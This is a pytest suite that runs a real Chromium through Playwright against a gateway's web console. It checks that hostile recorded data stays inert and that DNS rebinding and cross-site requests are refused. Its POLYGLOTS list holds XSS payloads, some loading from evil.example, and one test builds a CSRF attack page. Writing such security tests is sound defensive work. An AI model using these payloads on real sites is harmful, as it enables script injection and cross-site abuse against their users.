"""The console in a real Chromium: recorded content stays text, and pages are live."""

import asyncio
import re
from dataclasses import asdict, replace

import browsing
import consoling
import pytest
from aiohttp import web
from playwright.async_api import expect

from gateway.errors import Problem
from gateway.model.exchange import Chunk, Failure
from gateway.model.recording import Recording, Revision
from gateway.protocols import Health, Pin, RecorderStatus
from gateway.routes.table import RouteTable

pytestmark = pytest.mark.browser

POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/--!><sVg/oNloAd=alert(1)//>",
    "\"'><img src=x onerror=alert(2)><script>alert(3)</script>{{7*7}}${7*7}\u202egnp.exe",
    "<iframe srcdoc='<script>parent.alert(4)</script>'></iframe><base href=//evil.example/>]]><!--",
    "\"><i hx-get='//evil.example' hx-trigger=load data-hx-on:load='alert(6)' hx-vals='js:{a:alert(7)}'></i>",
    "javascript:alert(5)//<style>@import '//evil.example/x.css'</style>\x00\x1b[31m\r\n",
)


@pytest.fixture
async def browser():
    async with browsing.chromium() as browser:
        yield browser


def hostile_exchange(evil, **facts):
    return consoling.an_exchange(
        method=evil, target=f"/{evil}?{evil}={evil}", reason=evil, sent=evil.encode(), answer=evil.encode(),
        headers=((evil, evil), ("Content-Type", evil)), answer_headers=((evil, evil), ("Content-Type", "text/html")),
        url=evil, session=evil, cluster=evil, environment=evil, upstream_url=evil, routes_revision=evil, override=evil,
        notes=(evil,), tags=(evil,), rewritten=((evil, evil),), **facts,
    )  # fmt: skip


def hostile(book, services, evil):
    """`evil` in every field that comes from a client, an upstream or a file."""
    steps = [
        hostile_exchange(evil),
        hostile_exchange(evil, status=502, response=None, failure=Failure(evil, evil)),
        hostile_exchange(evil, stream="sse", state="open"),
    ]
    book.add(
        Recording(consoling.RECORDING, evil, evil, clusters=(evil,), notes=(evil,), tags=(evil,), parent=evil), *steps
    )
    book.pieces[steps[2].id] = [Chunk(0, 1.0, "received", f"event: {evil}\ndata: {evil}\n\n".encode())]
    book.accepted.insert(0, Revision(evil, "2026-11-22T06:00:00Z", evil, (evil,), evil))
    book.state = RecorderStatus(missed=1, reason=evil)
    services.routes.problems = (Problem(evil, 1, 1, evil, evil),)
    services.routes.table = hostile_table(services.routes.table, evil)
    services.sessions.live["browser"] = consoling.LiveSession("browser", evil, 1, {evil: Pin(evil)})
    return steps


def hostile_table(table, evil):
    """As no routes.yaml could be: the checks of its names are not what the pages rely on."""
    orders = table.clusters["orders"]
    upstream = replace(orders.upstreams["qa"], url=evil)
    cluster = replace(orders, name=evil, prefix=evil.encode(), upstreams={"qa": upstream})
    return RouteTable({**table.clusters, evil: cluster}, revision=evil, environments=(*table.environments, evil))


class EvilHealth:
    def __init__(self, evil):
        self.evil = evil

    def of(self, cluster, environment):
        return Health("down", self.evil, self.evil, 1.0, 1.0)


@pytest.mark.parametrize("evil", POLYGLOTS, ids=range(len(POLYGLOTS)))
async def test_recorded_content_is_inert_on_every_page(book, services, browser, tmp_path, aiohttp_server, evil):
    """S7, S8: no dialog, no policy report, no request elsewhere, nothing in the page that could run."""
    services = replace(services, health=EvilHealth(evil))
    server = await aiohttp_server(consoling.an_app(services))
    steps = hostile(book, services, evil)
    page = await browsing.watched(await browser.new_context(), f"http://127.0.0.1:{server.port}")
    paths = ["/_gateway/", "/_gateway/live", "/_gateway/recordings", "/_gateway/history", "/_gateway/nothing"]
    paths += [f"/_gateway/recordings/{consoling.RECORDING}", *(f"/_gateway/exchanges/{one.id}" for one in steps)]
    paths.append(f"/_gateway/diff?a={steps[0].id}&b={steps[-1].id}")
    paths += [
        f"/_gateway/recordings/{consoling.RECORDING}/what-if/1?preview=yes&more=header:X-A=1",
        f"/_gateway/recordings/{consoling.RECORDING}/compare?with={consoling.RECORDING}",
        f"/_gateway/recordings/{consoling.RECORDING}/variants",
        f"/_gateway/recordings/{consoling.RECORDING}/redact",
        "/_gateway/audit",
        "/_gateway/statistics",
    ]
    book.shelf["the saved filters"] = {f"recordings:{evil}": evil}
    for path in paths:
        text = await page.open(path)
        await page.page.evaluate("document.querySelectorAll('details').forEach((one) => one.open = true)")
        services.live.publish("exchange", {**LIVE_ROW, "method": evil, "path": evil, "failure": evil})
        services.routes.tell(None)
        await page.page.wait_for_timeout(150)
        await page.check()
        assert "49" not in text or "{{7*7}}" not in evil, path
    await page.open(f"/_gateway/recordings/{consoling.RECORDING}")
    assert re.sub(r"\s", "", evil.replace("\0", "")[:40]) in re.sub(r"\s", "", await page.page.inner_text("h1"))


LIVE_ROW = {
    "id": "01KLIVE", "recording": consoling.RECORDING, "step": 4, "started_at": "2026-11-22T06:00:09Z", "method": "GET",
    "path": "/api/orders/9", "status": 200, "cluster": "orders", "environment": "qa", "total_ms": 3.25, "failure": None,
}  # fmt: skip


async def test_a_hostile_filter_and_path_are_inert(origin, browser):
    page = await browsing.watched(await browser.new_context(), origin)
    for evil in POLYGLOTS:
        await page.page.goto(origin + "/_gateway/recordings")
        await page.page.fill("#q", evil)
        await page.page.press("#q", "Enter")
        await page.check()
        await page.page.goto(origin + "/" + "".join(c if c.isalnum() else f"%{ord(c) % 256:02x}" for c in evil))
        await page.check()


async def test_exports_and_bodies_are_saved_never_shown(book, services, origin, browser):
    steps = hostile(book, services, POLYGLOTS[1])
    page = await browser.new_page()
    links = [
        f"/_gateway/api/v1/recordings/{consoling.RECORDING}/export?as={name}" for name in ("svg", "mermaid", "har")
    ]
    links += [f"/_gateway/api/v1/exchanges/{steps[0].id}/{part}-body" for part in ("request", "response")]
    await page.goto(origin + "/_gateway/")
    for link in links:
        async with page.expect_download() as download:
            await page.evaluate("(link) => { location.href = link; }", link)
        assert (await (await download.value).path()).stat().st_size > 0


async def test_the_red_bar_comes_and_goes_by_itself(services, origin, browser):
    page = await browsing.watched(await browser.new_context(), origin)
    await page.open("/_gateway/recordings")
    bar = page.page.locator("#problems")
    await expect(bar).to_be_hidden()
    services.routes.problems = (Problem("routes.yaml", 6, 18, "clusters.orders.environment", "'qaa' is not one of"),)
    await until_listening(services)
    services.routes.tell(None)
    await expect(bar).to_contain_text("routes.yaml:6:18: error: clusters.orders.environment: 'qaa' is not one of")
    services.routes.problems = ()
    await services.routes.move("orders", "test", source="file")
    await expect(bar).to_be_hidden()
    await expect(page.page.locator("#changed")).to_have_text("routes.yaml is in force: 1 change: orders: qa -> test")
    await page.check()


async def test_the_recorder_s_banner_comes_by_itself(services, origin, browser):
    page = await browsing.watched(await browser.new_context(), origin)
    await page.open("/_gateway/history")
    await expect(page.page.locator("#missing")).to_be_hidden()
    await until_listening(services)
    services.live.publish("recorder", asdict(RecorderStatus(missed=2, reason="the disk is full.")))
    await expect(page.page.locator("#missing")).to_contain_text("the disk is full. 2 calls could not be stored.")


@pytest.mark.parametrize("scripts", [True, False], ids=["with-javascript", "without"])
async def test_a_cluster_is_moved_and_moved_back_by_clicks(services, origin, browser, scripts):
    context = await browser.new_context(java_script_enabled=scripts)
    page = await context.new_page()
    await page.goto(origin + "/_gateway/")
    await page.click("#move-orders-test > summary")
    if scripts:
        await page.locator("details.move[open] .pop[data-ready]").wait_for()
    else:
        await page.wait_for_timeout(500)  # the button takes no click while its panel is new
    await page.get_by_role("button", name="Move to test").click()
    await expect(page.locator("#last-line")).to_contain_text(re.compile(r"orders moved qa → test .*routes.yaml:6"))
    assert services.routes.table.clusters["orders"].environment == "test"
    await page.click("#undo")
    await expect(page.locator('[data-cell="orders@qa"]')).to_contain_text("lives here")
    assert services.routes.table.clusters["orders"].environment == "qa"


async def test_the_board_follows_what_others_move(services, origin, browser):
    page = await browsing.watched(await browser.new_context(), origin)
    await page.open("/_gateway/")
    await until_listening(services)
    await services.routes.move("orders", "test", source="file")
    await expect(page.page.locator('[data-cell="orders@test"]')).to_contain_text("lives here")
    await expect(page.page.locator('#strip [data-cluster="orders"]')).to_contain_text("test")
    await page.check()


@pytest.mark.parametrize("shared_workers", [True, False], ids=["shared worker", "none, as on many phones"])
async def test_the_live_list_grows_pauses_and_catches_up(book, services, origin, browser, shared_workers):
    context = await browser.new_context()
    if not shared_workers:
        await context.add_init_script("delete window.SharedWorker")
    page = await browsing.watched(context, origin)
    await page.open("/_gateway/live")
    rows, pill = page.page.locator("#rows li"), page.page.locator("#pill")
    await expect(rows).to_have_count(3)
    await until_listening(services)
    await page.page.mouse.move(700, 20)
    recorded(book, services, "01KLIVE", 200)
    await expect(rows).to_have_count(4)
    await expect(rows.first).to_contain_text("/api/orders/9")
    await expect(rows.first).to_contain_text("200")
    await page.page.click("#pause")
    for number in range(12):
        recorded(book, services, f"01KPAUSED{number}", 404)
    await expect(pill).to_have_text("12 new")
    await expect(rows).to_have_count(4)
    await page.page.click("#pause")
    await expect(rows).to_have_count(16)
    await expect(rows.first).to_contain_text("404")
    await page.check()


def recorded(book, services, id, status):
    """One more call, stored and announced as the recorder does."""
    steps = book.steps[consoling.RECORDING]
    one = replace(
        steps[-1],
        id=id,
        step=len(steps) + 1,
        status=status,
        started_at=f"2026-11-22T06:01:{len(steps):02}Z",
        failure=None,
    )
    steps.append(
        replace(one, request=replace(one.request, target="/api/orders/9"), url="http://127.0.0.1:8080/api/orders/9")
    )
    services.live.publish("exchange", {**LIVE_ROW, "id": id, "status": status})


async def test_nothing_moves_under_a_pointer_that_is_on_the_live_list(book, services, origin, browser):
    page = await browsing.watched(await browser.new_context(), origin)
    await page.open("/_gateway/live")
    await until_listening(services)
    rows = page.page.locator("#rows li")
    await rows.first.hover()
    recorded(book, services, "01KLIVE", 200)
    await expect(page.page.locator("#pill")).to_have_text("1 new")
    await expect(rows).to_have_count(3)
    await page.page.click("#pill")
    await expect(rows).to_have_count(4)


async def test_a_selected_call_fills_the_pane_by_click_by_keys_and_without_javascript(origin, browser):
    page = await browsing.watched(await browser.new_context(viewport={"width": 1440, "height": 900}), origin)
    await page.open("/_gateway/live")
    rows, pane = page.page.locator("#rows [data-call]"), page.page.locator("#pane")
    await rows.nth(1).click()
    await expect(pane).to_contain_text(await rows.nth(1).locator(".p").inner_text())
    selected = page.page.url
    assert "sel=" in selected
    await pane.get_by_role("link", name="Headers").click()
    await expect(pane.get_by_text("Request headers")).to_be_visible()
    await page.page.keyboard.press("j")
    await expect(rows.nth(2)).to_be_focused()
    await expect(pane.get_by_text("Request headers")).to_be_visible()  # the tab goes from row to row
    await page.check()
    plain = await (await browser.new_context(java_script_enabled=False)).new_page()
    await plain.goto(selected)
    await expect(plain.locator("#pane")).to_contain_text(await plain.locator("#rows .sel .p").inner_text())


async def test_the_theme_follows_the_system_until_the_reader_chooses(origin, browser):
    dark = await browser.new_context(color_scheme="dark")
    page = await dark.new_page()
    await page.goto(origin + "/_gateway/")
    background = "getComputedStyle(document.body).backgroundColor"
    assert await page.evaluate(background) == "rgb(13, 17, 25)"
    await page.click("#theme")
    assert await page.evaluate(background) == "rgb(245, 246, 250)"
    await page.goto(origin + "/_gateway/recordings")
    assert await page.evaluate(background) == "rgb(245, 246, 250)"


async def test_a_foreign_name_for_this_machine_shows_nothing(origin):
    """S2: DNS rebinding as a browser would be led into it."""
    async with browsing.chromium("--host-resolver-rules=MAP evil.test 127.0.0.1") as browser:
        page = await browser.new_page()
        answer = await page.goto(origin.replace("127.0.0.1", "evil.test") + "/_gateway/")
        assert answer.status == 421
        assert "Order a book" not in await page.content()


async def test_another_site_cannot_move_a_cluster(services, origin, browser, aiohttp_server):
    """S3: a form and a fetch from a page elsewhere."""
    form = f"""<form method=post action="{origin}/_gateway/move"><input name=cluster value=orders>
        <input name=environment value=test><button id=go>Win</button></form>"""

    async def elsewhere(request):
        return web.Response(text=form, content_type="text/html")

    app = web.Application()
    app.router.add_get("/", elsewhere)
    evil = await aiohttp_server(app)
    page = await browser.new_page()
    await page.goto(f"http://127.0.0.1:{evil.port}/")
    sent = """(url) => fetch(url, {method: "POST", mode: "no-cors", body: '{"environment": "test"}'}).catch(() => 0)"""
    await page.evaluate(sent, origin + "/_gateway/api/v1/routes/orders/move")
    async with page.expect_navigation():
        await page.click("#go")
    assert "Refused" in await page.content()
    assert services.routes.table.clusters["orders"].environment == "qa"


async def until_listening(services):
    while not services.live.listening:
        await asyncio.sleep(0.01)
